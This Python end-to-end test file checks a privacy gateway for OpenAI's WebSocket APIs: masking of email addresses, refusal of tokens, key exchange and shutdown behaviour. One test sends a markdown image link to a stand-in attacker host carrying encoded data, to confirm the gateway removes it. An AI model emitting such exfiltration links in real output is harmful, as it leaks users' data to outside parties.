"""OpenAI's own client over WebSocket, unmodified, through a running gateway: Realtime and Responses."""

import asyncio
import json
import os
import signal
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
import websockets.exceptions
import websockets.sync.client

from e2e.identity.keyring import Office, invented, private
from e2e.traffic import assert_clean, assert_sound, eventually, of_kind, recorded, running, settled
from gateways import OPEN_POLICY, GatewayProcess
from sallyport.audit.events import EventKind
from sallyport.lab.server import Lab
from socketclient import CREATE, Closed, SocketClient, item, text_of

PERSON = "marta.quill@example.com"
KEY = "sk-test-EXAMPLE"
PARAMETERS = {"type": "object", "properties": {"to": {"type": "string"}}}
TOOL: Any = {"type": "function", "name": "send_mail", "description": "Send it", "parameters": PARAMETERS}


@pytest.fixture(scope="module")
def gateway(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    policy = OPEN_POLICY + "websocket: {refuse: ['azure_openai *']}\nmasking: {entities: {URL: allow}}\n"
    with running(tmp_path_factory.mktemp("realtime"), lab, policy=policy) as up:
        yield up


@pytest.fixture(autouse=True)
def environment(gateway: GatewayProcess, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in gateway.env.items():
        if os.environ.get(name) != value:
            monkeypatch.setenv(name, value)


def message(text: str) -> Any:
    return item(text)["item"]


def upstream(lab: Lab, marker: str) -> list[str]:
    return [r.text for r in lab.requests if marker in r.text]


def heard_until(connection: Any, *kinds: str) -> list[Any]:
    events: list[Any] = []
    while not events or events[-1].type not in kinds:
        events.append(connection.recv())
    return events


def test_a_conversation_of_several_turns(lab: Lab) -> None:
    client = openai.OpenAI(api_key=KEY)
    with client.realtime.connect(model="gpt-realtime") as connection:
        heard_until(connection, "session.created")
        connection.session.update(session={"type": "realtime", "instructions": "Mind the parcels."})
        for turn in range(3):
            text = f"Parcel osprey-{turn} for {PERSON}"
            connection.conversation.item.create(item=message(text))
            connection.response.create()
            events = heard_until(connection, "response.done")
            said = "".join(e.delta for e in events if e.type == "response.output_text.delta")
            assert said == f"You wrote: {text}"
            done = events[-1].response
            assert done.status == "completed"
            assert done.output[0].content[0].text == said
    sent = upstream(lab, "osprey-")
    assert len(sent) == 3
    assert not any(PERSON in text for text in sent)
    # The same value has the same placeholder on every turn.
    assert len({text.partition("for ")[2] for text in sent}) == 1


def test_arguments_of_a_tool_call_come_back_as_json(lab: Lab) -> None:
    client = openai.OpenAI(api_key=KEY)
    name = f'"Quoted" <{PERSON}>'
    with client.realtime.connect(model="gpt-realtime") as connection:
        connection.session.update(session={"type": "realtime", "tools": [TOOL]})
        connection.conversation.item.create(item=message(f"Mail heron {name}"))
        connection.response.create()
        events = heard_until(connection, "response.done")
    (done,) = [e for e in events if e.type == "response.function_call_arguments.done"]
    pieces = "".join(e.delta for e in events if e.type == "response.function_call_arguments.delta")
    assert pieces == done.arguments
    assert PERSON in done.arguments
    assert json.loads(done.arguments)["to"] == f"Mail heron {name}"
    assert not any(PERSON in text for text in upstream(lab, "heron"))


def test_an_event_that_is_refused_is_an_error_event_of_the_sdk(lab: Lab) -> None:
    client = openai.OpenAI(api_key=KEY)
    secret = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    with client.realtime.connect(model="gpt-realtime") as connection:
        heard_until(connection, "session.created")
        connection.conversation.item.create(item=message(f"dunlin {secret}"), event_id="first")
        (refused,) = heard_until(connection, "error")
        assert refused.error.event_id == "first"
        assert str(refused.error.code).startswith("secrets.")
        connection.conversation.item.create(item=message("dunlin again"))
        connection.response.create()
        assert heard_until(connection, "response.done")[-1].response.status == "completed"
    assert len([t for t in upstream(lab, "dunlin") if "item.create" in t]) == 1


async def test_the_asynchronous_client(lab: Lab) -> None:
    async with openai.AsyncOpenAI(api_key=KEY).realtime.connect(model="gpt-realtime") as connection:
        await connection.conversation.item.create(item=message(f"curlew for {PERSON}"))
        await connection.response.create()
        said = ""
        async for event in connection:
            if event.type == "response.output_text.delta":
                said += event.delta
            if event.type == "response.done":
                break
    assert said == f"You wrote: curlew for {PERSON}"
    assert not any(PERSON in text for text in upstream(lab, "curlew"))


def test_responses_over_a_socket_in_two_lanes(lab: Lab, gateway: GatewayProcess) -> None:
    client = openai.OpenAI(api_key=KEY)
    with client.responses.connect() as connection:
        for lane in ("left", "right"):
            text = f"avocet {lane} for {lane}.{PERSON}"
            connection.response.create(model="gpt-lab", input=text, stream_id=lane)
        events: list[Any] = []
        while sum(e.type == "response.completed" for e in events) < 2:
            events.append(connection.recv())
    for lane in ("left", "right"):
        own = [e for e in events if e.stream_id == lane]
        said = "".join(e.delta for e in own if e.type == "response.output_text.delta")
        assert said == f"You wrote: avocet {lane} for {lane}.{PERSON}"
        assert own[-1].response.output[0].content[0].text == said
    assert not any(PERSON in text for text in upstream(lab, "avocet"))
    ended = [e for e in of_kind(settled(gateway.confdir, 30), EventKind.COMPLETED) if e.usage is not None]
    assert any(e.dialect == "openai_responses_socket" and e.usage_source == "provider" for e in ended)


def test_what_the_policy_says_of_answers_holds_for_events(gateway: GatewayProcess) -> None:
    client = SocketClient.open(gateway.port, gateway.confdir)
    client.hear()
    client.say(item("whinchat ![chart](https://collector.evil.example/i?q=c2VjcmV0LXNlY3JldA) and more"))
    client.say(CREATE)
    heard = client.until("response.done")
    whole = heard[-1]["response"]["output"][0]["content"][0]["text"]
    assert text_of(heard) == whole
    assert "collector.evil.example" not in whole
    assert "output.exfiltration" in whole
    assert whole.endswith(" and more")
    client.close()
    client.hear()


def test_an_upgrade_that_is_refused_is_an_error_the_sdk_raises_at_once() -> None:
    client = openai.OpenAI(api_key=KEY)
    with (
        pytest.raises(websockets.exceptions.InvalidStatus) as refused,
        client.realtime.connect(extra_query={"call_id": "rtc_1"}),
    ):
        pass
    assert refused.value.response.status_code == 426
    assert refused.value.response.headers["upgrade"] == "HTTP/1.1"


def test_azure_is_refused_where_the_policy_says_so(gateway: GatewayProcess, lab: Lab) -> None:
    path = "/openai/realtime?api-version=2025-04-01-preview&deployment=voice"
    client = SocketClient.open(gateway.port, gateway.confdir, path, host="lab.openai.azure.com")
    assert client.status == 426
    assert not any(r.host == "lab.openai.azure.com" for r in lab.requests)


def test_a_client_that_offers_compression_gets_a_session_without(lab: Lab) -> None:
    with websockets.sync.client.connect(
        "wss://api.openai.com/v1/realtime?model=gpt-realtime",
        additional_headers={"Authorization": f"Bearer {KEY}"},
        compression="deflate",
    ) as connection:
        assert connection.protocol.extensions == []
        connection.ping().wait(30)
        assert "session.created" in str(connection.recv(30))
        connection.close(4000, "enough")
    eventually(lambda: any(r.text == "close 4000" for r in lab.requests), 30, "the code is passed on")


def test_a_gateway_that_is_killed_leaves_no_word_unmasked_and_every_exchange_an_end(
    lab: Lab, tmp_path: Path
) -> None:
    with running(tmp_path, lab) as up:
        client = SocketClient.open(up.port, up.confdir, "/v1/realtime?model=slow-20")
        client.hear()

        def flood() -> None:
            try:
                for number in range(2000):
                    client.say(item(f"godwit {number} for {PERSON}"))
                    client.say(CREATE)
            except OSError:
                return

        thread = threading.Thread(target=flood, daemon=True)
        thread.start()
        eventually(lambda: upstream(lab, "godwit"), 30, "it has begun")
        up.signal(signal.SIGKILL)
        assert [e for e in client.until("never") if isinstance(e, Closed)] == [Closed(0)]
        thread.join(30)
        assert not any(PERSON in text for text in upstream(lab, "godwit"))
        confdir = up.confdir
    with running(tmp_path, lab) as again:
        events = settled(confdir, 60)
        assert_sound(events)
        admitted = {e.exchange for e in of_kind(events, EventKind.ADMITTED)}
        sent = [t for t in upstream(lab, "godwit") if "item.create" in t]
        assert 0 < len(sent) <= len(admitted)
        assert_clean(again, PERSON, "godwit")


async def test_a_gateway_that_stops_lets_an_answer_finish_and_closes_what_is_idle(
    lab: Lab, tmp_path: Path
) -> None:
    with running(tmp_path, lab) as up:
        idle = SocketClient.open(up.port, up.confdir)
        idle.hear()
        busy = SocketClient.open(up.port, up.confdir, "/v1/realtime?model=slow-50")
        busy.hear()
        busy.say(item(f"whimbrel {PERSON}"))
        busy.say(CREATE)
        busy.until("response.created")
        up.signal(signal.SIGTERM)
        said = await asyncio.to_thread(busy.until, "response.done")
        assert said[-1]["response"]["status"] == "completed"
        assert busy.hear() == Closed(1012)
        assert idle.until("never")[-1] == Closed(1012)
        eventually(lambda: up.process.poll() is not None, 60, "it has stopped")
        events = recorded(up.confdir)
        assert_sound(events)
        assert sorted(e.detail for e in of_kind(events, EventKind.BROKEN)) == ["gateway.stopping"]


def test_a_gateway_key_is_exchanged_for_the_session_and_each_event_asks_whether_it_still_holds(
    lab: Lab, tmp_path: Path
) -> None:
    policy = "version: 1\nidentity: {unknown: anonymous}\nsecrets: {mode: observe}\n"
    with running(tmp_path, lab, policy=policy) as up:
        office, real = Office(up.confdir), invented("sk-proj-")
        file = private(tmp_path / "real.key", real)
        office.run("credentials", "add", "work", "--provider", "openai", "--from-file", str(file))
        key, name = office.issue("openai", "ada", "--credential", "work")

        def opened() -> SocketClient:
            path = "/v1/realtime?model=gpt-realtime"
            return SocketClient.open(
                up.port, up.confdir, path, f"Authorization: Bearer {key}", drop=("Authorization",)
            )

        eventually(lambda: opened().status == 101, 30, "the gateway knows the key")
        client = opened()
        client.hear()
        (*_, upgrade) = [r for r in lab.requests if r.method == "GET"]
        assert upgrade.header("authorization") == f"Bearer {real}"
        client.say(item(f"knot says {key}"))
        assert client.hear()["error"]["code"] == "websocket.key_misplaced"
        client.say(item(f"knot quotes {real}"))
        client.say(CREATE)
        (*_, done) = [e for e in client.until("response.done") if e["type"] == "response.output_text.done"]
        assert done["text"] == "You wrote: knot quotes " + "*" * len(real)
        office.run("keys", "revoke", name)

        eventually(lambda: "identity.key" in _answer(client), 30, "the key is worth nothing any more")
        assert not any(key in r.text for r in lab.requests)
        assert_clean(up, key, real, "knot")


def _answer(client: SocketClient) -> str:
    """Return what an event is answered with: the error, or the item."""
    client.say(item("knot again"))
    first = client.hear()
    if first["type"] != "error":
        client.until("conversation.item.done")
    return str(first)


def test_everything_ended_and_nothing_was_written_down(gateway: GatewayProcess) -> None:
    assert_sound(settled(gateway.confdir, 60))
    assert_clean(gateway, PERSON, "osprey", "curlew", "avocet", "dunlin")
